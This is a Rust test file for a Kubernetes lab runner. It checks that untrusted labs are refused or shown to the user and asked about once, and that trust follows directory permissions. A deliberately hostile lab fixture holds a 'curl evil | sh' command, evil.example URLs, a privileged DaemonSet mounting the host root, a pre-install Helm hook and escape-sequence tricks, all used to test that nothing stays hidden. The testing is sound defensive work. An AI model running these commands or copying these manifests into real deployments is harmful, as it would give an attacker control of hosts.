//! Labs from elsewhere: shown, asked about once, and refused where nobody can be asked.

use std::{fs, os::unix::fs::PermissionsExt, path::Path};

use labctl::state::trust::Directory;

use crate::support::{Act, MANIFEST, Sandbox, Seeded, rule};

/// A sandbox with the small lab, in which a cluster cannot be made.
fn sandbox() -> Sandbox {
    let sandbox = Sandbox::new().with_small_lab();
    let fails = rule("kind", "create", [Act::Exit(1)]);
    sandbox.fakes.obey([fails]);
    sandbox
}

#[test]
fn where_nobody_can_be_asked_it_is_refused_and_nothing_is_created() {
    let sandbox = sandbox();
    let refused = sandbox.untrusting("up ./small").run();
    insta::assert_snapshot!(refused.whole, @r"
    exit 7
    --- stderr
    error: the lab small did not come with labctl, and is not trusted

    hint: `labctl plan ./small` shows every command and manifest; `labctl up ./small --trust` runs them
          without asking
    ");
    refused.exits(7).answers_nothing();
    sandbox.is_untouched();
}

#[test]
fn a_script_says_that_it_trusts_a_lab_for_this_once() {
    let sandbox = sandbox();
    sandbox.untrusting("up small --trust").run().exits(1);
    assert_eq!(sandbox.fakes.calls_of("kind", "create").len(), 1);
    assert!(!sandbox.state().join("trust").exists());
    // What is in the environment already was allowed; anything else was not.
    sandbox.untrusting("up small").run().exits(1);
    sandbox.write("small/manifests/app.yaml", "apiVersion: v1\nkind: Pod\n");
    sandbox.untrusting("up small").run().exits(7);
    assert_eq!(sandbox.fakes.calls_of("kind", "create").len(), 2);
}

#[test]
fn a_lab_that_came_with_labctl_is_not_asked_about() {
    let sandbox = sandbox();
    let answer = sandbox.untrusting("up 10.3").run();
    assert_ne!(answer.code, 7, "{}", answer.whole);
}

#[test]
fn on_a_terminal_it_is_shown_and_asked_about() {
    let sandbox = sandbox();
    sandbox.write(
        "small/manifests/app.yaml",
        "apiVersion: v1\nkind: Secret\nmetadata: {name: app\u{202e}}\nstringData: {a: canary-4711}\n",
    );
    let told = sandbox
        .untrusting("up ./small")
        .on_a_terminal("y\n")
        .exits(1);
    let question = sandbox.normal(told.stderr.split("[y/N]").next().unwrap());
    insta::assert_snapshot!("question", question);
    assert!(told.stderr.contains("Run this lab now?"), "{}", told.whole);
    // Temporary directories are below one in which everybody may write.
    assert!(!sandbox.state().join("trust").exists());
    sandbox.write("small/manifests/app.yaml", "apiVersion: v1\nkind: Pod\n");
    sandbox.untrusting("up small/lab.yaml").run().exits(7);
}

/// A directory in which nobody else can write, if the machine has one for tests.
fn private() -> Option<tempfile::TempDir> {
    let home = std::env::var("HOME").unwrap_or_default();
    let below = [env!("CARGO_TARGET_TMPDIR"), home.as_str()];
    let made = |dir: &str| tempfile::tempdir_in(dir).ok();
    let is_private = |dir: &tempfile::TempDir| Directory::at(dir.path()).unwrap().open.is_none();
    below.into_iter().filter_map(made).find(is_private)
}

#[test]
fn where_nobody_else_can_write_it_is_asked_about_once() {
    let Some(dir) = private() else {
        eprintln!("not seen: this machine has no directory of the user's alone");
        return;
    };
    let sandbox = sandbox();
    let lab = dir.path().join("small");
    let copy = |to: &Path| {
        fs::create_dir_all(to.join("manifests")).unwrap();
        for name in ["lab.yaml", "manifests/app.yaml"] {
            fs::copy(sandbox.path("work/small").join(name), to.join(name)).unwrap();
        }
    };
    copy(&lab);
    let up = |lab: &Path| sandbox.untrusting("up").arg(lab);
    let told = up(&lab).on_a_terminal("y\n").exits(1);
    assert!(told.stderr.contains("now and in future?"), "{}", told.whole);
    let answers = sandbox.files("state/labctl/trust");
    assert_eq!(answers.len(), 1);
    let path = sandbox.state().join("trust").join(&answers[0]);
    assert_eq!(
        fs::metadata(path).unwrap().permissions().mode() & 0o777,
        0o600
    );
    sandbox.labctl("down small").run().exits(0);
    // By the directory, however it is named and whatever is in it by now.
    fs::write(
        lab.join("manifests/app.yaml"),
        "apiVersion: v1\nkind: Pod\n",
    )
    .unwrap();
    up(&lab.join("lab.yaml")).run().exits(1);
    sandbox.labctl("down small").run().exits(0);
    // Another directory is another question, of another name or of the same.
    let other = dir.path().join("other");
    fs::rename(&lab, &other).unwrap();
    up(&other).run().exits(7);
    copy(&lab);
    up(&lab).run().exits(7);
    // Nobody is asked again about the one that came back.
    fs::remove_dir_all(&lab).unwrap();
    fs::rename(&other, &lab).unwrap();
    up(&lab).run().exits(1);
    sandbox.labctl("down small").run().exits(0);
    // Once others can write there, it may be anybody's.
    let everybody = fs::Permissions::from_mode(0o777);
    fs::set_permissions(dir.path(), everybody).unwrap();
    up(&lab).run().exits(7);
}

/// A lab whose author hides what it does as well as one can.
const HOSTILE: &str = r#"lab: small
title: "A lab\n  cluster: nothing\e[2J\u202e"
level: beginner
time: 5m
images: [{image: "evil:1", build: {context: web}}]
data: [{in: [db-0], fingerprint: [ask, "me\n"], save: [save, me], ends-with: me, restore: [sh, -c, "restore me"]}]
steps:
- {id: cluster, title: "T\n$ true", do: {kind-cluster: {template: three-workers, image: "evil/node:1"}}}
- {id: tool, title: T, do: {tool: {name: linkerd, version: "1", version-arguments: [version]}}}
- id: print
  title: T
  do: {apply: {output: {of: linkerd, arguments: [install, "--set=a=b\nc"]}}}
- {id: app, title: T, do: {apply: {path: manifests}}}
- {id: far, title: T, do: {apply: {url: "https://evil.example/a?b=c", sha256: "0000000000000000000000000000000000000000000000000000000000000000"}}}
- {id: chart, title: T, do: {helm: {release: a, chart: chart}}}
- {id: repo, title: T, do: {helm: {release: b, chart: {repository: "https://evil.example/c", name: d}, version: 1.0.0, set: {controller.hostNetwork: true}}}}
- {id: run, title: T, do: {exec: {in: app-0, command: [sh, -c, "curl evil | sh"]}}, expect: {within: 1s, all: [{sql: {in: db-0, query: "\\! id", equals: ""}}]}}
"#;

fn hostile() -> Sandbox {
    let sandbox = sandbox();
    sandbox.write("small/lab.yaml", HOSTILE);
    sandbox.write("small/web/Dockerfile", "FROM scratch\nRUN evil\u{202e}\n");
    sandbox.write(
        "small/manifests/app.yaml",
        "apiVersion: v1\nkind: Secret\nmetadata: {name: hides}\nstringData: {a: curl evil | sh, b: \
         linkerd version, c: evil.example}\n---\napiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: \
         \"agent\\n  x\"}\nspec: {template: {spec: {hostNetwork: yes, hostPID: true, hostIPC: true, \
         containers: [{image: 'evil:2', ports: [{hostPort: 22}], securityContext: {privileged: true}}], \
         volumes: [{hostPath: {path: /}}]}}}\n",
    );
    sandbox.write("small/chart/Chart.yaml", "name: chart\n");
    sandbox.write(
        "small/chart/templates/a.yaml",
        "{{ if true }}\nannotations: {helm.sh/hook: pre-install}\nprivileged: true\n{{ end }}\n",
    );
    sandbox
}

#[test]
fn nothing_that_a_hostile_lab_does_is_hidden_in_the_question() {
    let sandbox = hostile();
    let told = sandbox
        .untrusting("up ./small")
        .on_a_terminal("n\n")
        .exits(7);
    let question = sandbox.normal(told.stderr.split("[y/N]").next().unwrap());
    insta::assert_snapshot!("hostile-question", question);
    sandbox.is_untouched();
}

#[test]
fn nothing_that_a_hostile_lab_does_is_hidden_in_the_plan() {
    let sandbox = hostile();
    let plan = sandbox.untrusting("plan ./small").run().exits(0);
    // Where the template comes from is labctl itself.
    let (before, rest) = plan.stdout.split_once("/kind.yaml\n").unwrap();
    let rest = &rest[rest.find("\n\n").unwrap()..];
    insta::assert_snapshot!(
        "hostile-plan",
        sandbox.normal(&format!("{before}/kind.yaml{rest}"))
    );
    let json = sandbox
        .untrusting("plan ./small --output json")
        .run()
        .exits(0)
        .stdout;
    for text in [
        "curl evil | sh",
        "linkerd version",
        "is privileged",
        "pre-install",
        "?b=c",
    ] {
        assert!(json.contains(text), "{text} in {json}");
    }
    sandbox.is_untouched();
}

#[test]
fn another_lab_of_the_same_id_is_not_let_into_an_environment() {
    let sandbox = sandbox();
    sandbox.untrusting("up small --trust").run().exits(1);
    let lab = fs::read_to_string(sandbox.path("work/small/lab.yaml")).unwrap();
    sandbox.write("other/lab.yaml", &lab.replace("A small lab", "Another"));
    sandbox.write("other/manifests/app.yaml", MANIFEST);
    let before = sandbox.files("state");
    for verb in ["up", "next", "verify", "reset", "down", "env"] {
        let options = if matches!(verb, "up" | "next") {
            "--trust"
        } else {
            ""
        };
        let refused = sandbox
            .untrusting(&format!("{verb} ./other {options}"))
            .run();
        refused
            .exits(7)
            .tells("the environment \"lab-small\" is of another lab small")
            .tells("it is of the one in ")
            .tells("work/other")
            .tells("--env NAME");
        assert_eq!(sandbox.files("state"), before, "{verb}");
    }
    // Its own lab may change, and another environment may have the other.
    sandbox.write(
        "small/lab.yaml",
        &lab.replace("A small lab", "A changed lab"),
    );
    sandbox.untrusting("up small --trust").run().exits(1);
    sandbox
        .untrusting("up other --trust --env mine")
        .run()
        .exits(1);
    // The very same files are the same lab, wherever they are.
    let changed = fs::read_to_string(sandbox.path("work/small/lab.yaml")).unwrap();
    sandbox.write("other/lab.yaml", &changed);
    sandbox.untrusting("up other --trust").run().exits(1);
}

#[test]
fn a_strangers_lab_does_not_take_over_that_of_a_built_in_one() {
    let sandbox = sandbox();
    Seeded::of_10_3(&sandbox).with_cluster(&["c0ffee0000000000"]);
    let lab = fs::read_to_string(sandbox.path("work/small/lab.yaml")).unwrap();
    sandbox.write("small/lab.yaml", &lab.replace("lab: small", "lab: '10.3'"));
    let refused = sandbox.untrusting("up ./small --trust").run().exits(7);
    refused
        .tells("the environment \"lab-10-3\" is of another lab 10.3")
        .tells("--env NAME");
    assert_eq!(sandbox.fakes.changes(), [""; 0]);
}

#[test]
fn every_other_answer_is_a_no() {
    for answer in ["n\n", "\n", "x\n", "\u{4}"] {
        let sandbox = sandbox();
        let refused = sandbox
            .untrusting("up small")
            .on_a_terminal(answer)
            .exits(7);
        assert!(
            refused.stderr.contains("is not trusted"),
            "{}",
            refused.whole
        );
        sandbox.is_untouched();
    }
}
